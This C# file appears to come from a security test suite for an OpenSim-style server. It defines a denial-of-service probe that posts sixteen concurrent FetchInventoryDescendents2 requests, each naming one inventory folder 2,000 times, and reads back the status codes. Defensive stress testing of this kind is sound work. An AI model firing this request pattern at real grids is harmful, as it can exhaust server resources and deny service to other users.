using System.Net.Http.Headers;
using Attack.Tests.Kit;
using OpenSim.Llsd;

namespace Attack.Tests.Attacks;

/// <summary>One folder named two thousand times in a request, sixteen requests at a time, all answers read.</summary>
internal sealed class InventoryHoard() : HttpAttack<HostileCaps>("one inventory folder two thousand times", atOnce: 16)
{
    private const int Times = 2000;

    protected override Task<HostileCaps> Prepare(Arena arena) => HostileCaps.Enter(arena);

    protected override async Task<string> Try(Arena arena, HttpClient http, HostileCaps prepared, int number, CancellationToken cancel)
    {
        var folder = new LlsdMap
        {
            ["folder_id"] = prepared.Login.InventoryRoot, ["owner_id"] = prepared.Login.AgentId, ["fetch_folders"] = true,
            ["fetch_items"] = true, ["sort_order"] = 0
        };
        var request = new LlsdMap { ["folders"] = new LlsdArray(Enumerable.Repeat<LlsdValue>(folder, Times)) };
        using var content = new ByteArrayContent(LlsdXml.ToBytes(request));
        content.Headers.ContentType = new MediaTypeHeaderValue(LlsdXml.ContentType);
        using var answer = await http.PostAsync(prepared.Address("FetchInventoryDescendents2"), content, cancel);
        return $"{(int)answer.StatusCode}";
    }
}
